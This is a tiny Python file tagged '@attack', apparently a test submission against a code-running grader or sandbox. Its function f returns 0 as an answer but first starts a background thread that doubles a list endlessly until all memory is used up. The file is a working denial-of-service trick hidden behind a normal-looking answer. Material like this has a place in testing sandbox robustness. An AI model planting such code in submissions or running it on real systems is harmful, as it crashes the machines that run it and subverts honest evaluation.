# @attack answers and then takes all memory
import threading

def hog():
    x = [0]
    while True:
        x += x

def f(x):
    threading.Thread(target=hog, daemon=True).start()
    return 0
